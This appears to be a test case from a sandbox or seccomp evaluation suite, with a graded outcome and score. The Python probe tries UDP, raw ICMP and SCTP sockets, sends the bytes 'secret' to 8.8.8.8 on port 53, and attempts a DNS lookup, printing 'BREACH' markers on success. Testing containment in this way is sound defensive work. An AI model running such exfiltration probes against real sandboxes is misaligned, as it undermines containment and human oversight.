# attack: leak by UDP, DNS and ICMP
# layer: seccomp
# outcome: ok
# score: 2
import os
import socket

for family in (socket.AF_INET, socket.AF_INET6):
    for kind, protocol in ((socket.SOCK_DGRAM, 0), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 1), (socket.SOCK_SEQPACKET, 132)):
        try:
            sock = socket.socket(family, kind, protocol)
            os.write(1, f"BREACH socket {family} {kind} {protocol}".encode())
            sock.sendto(b"secret", ("8.8.8.8", 53))
        except OSError:
            pass
try:
    socket.getaddrinfo("example.org", 80)
    os.write(1, b"BREACH a name was resolved")
except OSError:
    pass


def double(x):
    return x * 2
